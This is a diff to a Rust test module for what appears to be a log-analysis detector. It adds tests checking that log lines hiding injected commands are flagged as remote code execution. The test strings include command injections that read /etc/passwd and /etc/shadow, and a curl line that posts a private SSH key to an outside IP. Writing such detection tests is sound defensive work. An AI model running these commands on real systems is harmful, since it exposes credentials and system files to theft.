@@ -262,6 +262,20 @@ mod tests {
     }
 
     #[test]
+    fn a_line_that_reads_like_a_log_hides_no_command_that_reaches_for_secrets() {
+        for message in [
+            "ERROR: ; cat /etc/passwd",
+            "[error] | tail -n 9 /etc/shadow",
+            "2026-01-31 08:00:00 INFO && curl -d @/home/web/.ssh/id_rsa https://192.0.2.1",
+            r#"{"Channel":"Security","q":"; cat /etc/passwd"}"#,
+        ] {
+            let analysis = ENGINE.analyze(&entry("shop", SeverityLevel::Info, message, "{}"));
+            assert_eq!(analysis.category, Category::RemoteCodeExecution, "{message}: {analysis:?}");
+            assert!(analysis.score.severity() >= Severity::Medium, "{message}: {analysis:?}");
+        }
+    }
+
+    #[test]
     fn everyday_lines_are_none() {
         for message in [
             "LOG:  duration: 842.714 ms  statement: SELECT a FROM test WHERE b = 1 AND c = 1 UNION SELECT 2",
@@ -273,6 +287,7 @@ mod tests {
             "203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] \"GET /authorize?redirect_uri=https%3A%2F%2Fapp.example%2Fback&scope=openid HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"",
             "The docs say that gopher:// is no longer supported by browsers",
             "Jan  5 10:00:00 web CRON[77]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)",
+            "docs: `cat /etc/passwd` lists the users; getent passwd does so too",
             "user asked: please select the best option from the list and order by price",
         ] {
             check(message, Category::None, Severity::None);
